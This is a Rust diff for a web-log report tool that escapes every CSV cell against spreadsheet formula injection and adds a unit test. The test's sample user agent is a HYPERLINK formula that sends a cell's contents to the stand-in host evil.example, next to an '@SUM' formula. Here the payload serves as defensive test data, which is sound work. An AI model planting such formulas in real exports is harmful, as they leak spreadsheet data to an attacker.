@@ -13,6 +13,9 @@ struct Dir<'a> {
 
 impl Dir<'_> {
     /// Writes `rows` under an explicit header, so files of empty tables still say what they hold.
+    /// Every cell goes through [`super::csv_text`]: names from the log (hosts, paths, agents)
+    /// must not be formulas in a spreadsheet; the report's numbers are never negative, so they
+    /// are left as they are.
     fn rows<T: Serialize>(
         &mut self,
         name: &str,
@@ -20,18 +23,33 @@ impl Dir<'_> {
         rows: &[T],
     ) -> anyhow::Result<()> {
         let path = self.dir.join(name);
+        let writing = || format!("writing `{}`", path.display());
         let mut w = csv::WriterBuilder::new()
             .has_headers(false)
             .from_path(&path)
             .with_context(|| format!("cannot create `{}`", path.display()))?;
-        w.write_record(header)
-            .with_context(|| format!("writing `{}`", path.display()))?;
+        w.write_record(header).with_context(writing)?;
+        // Each row is serialized on its own, read back as fields and written cell by cell.
+        let mut cells = csv::StringRecord::new();
         for r in rows {
-            w.serialize(r)
-                .with_context(|| format!("writing `{}`", path.display()))?;
+            let mut one = csv::WriterBuilder::new()
+                .has_headers(false)
+                .from_writer(Vec::new());
+            one.serialize(r).with_context(writing)?;
+            let bytes = one
+                .into_inner()
+                .map_err(|e| e.into_error())
+                .with_context(writing)?;
+            let mut back = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(bytes.as_slice());
+            if !back.read_record(&mut cells).with_context(writing)? {
+                cells.clear();
+            }
+            w.write_record(cells.iter().map(|c| super::csv_text(c).into_owned()))
+                .with_context(writing)?;
         }
-        w.flush()
-            .with_context(|| format!("writing `{}`", path.display()))?;
+        w.flush().with_context(writing)?;
         self.written += 1;
         Ok(())
     }
@@ -323,4 +341,49 @@ pub fn write_dir(r: &Report, dir: &Path) -> anyhow::Result<usize> {
         }
     }
     Ok(d.written)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_from_the_log_are_not_spreadsheet_formulas() {
+        let r = Report {
+            top_user_agents: Some(vec![
+                NameCount {
+                    name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
+                    count: 3,
+                },
+                NameCount {
+                    name: "-".into(),
+                    count: 2,
+                },
+                NameCount {
+                    name: "Mozilla/5.0, \"quoted\"".into(),
+                    count: 1,
+                },
+            ]),
+            methods: vec![NameCount {
+                name: "@SUM(1+1)".into(),
+                count: 1,
+            }],
+            ..Report::default()
+        };
+        let tmp = std::env::temp_dir().join(format!("hitstream-csv-test-{}", std::process::id()));
+        write_dir(&r, &tmp).unwrap();
+        let agents = std::fs::read_to_string(tmp.join("user_agents.csv")).unwrap();
+        let methods = std::fs::read_to_string(tmp.join("methods.csv")).unwrap();
+        let totals = std::fs::read_to_string(tmp.join("totals.csv")).unwrap();
+        std::fs::remove_dir_all(&tmp).unwrap();
+        assert_eq!(
+            agents,
+            "user_agent,count\n\
+             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",3\n\
+             -,2\n\
+             \"Mozilla/5.0, \"\"quoted\"\"\",1\n"
+        );
+        assert_eq!(methods, "method,count\n'@SUM(1+1),1\n");
+        assert!(totals.contains("\nlines,0\n"), "{totals}");
+    }
 }
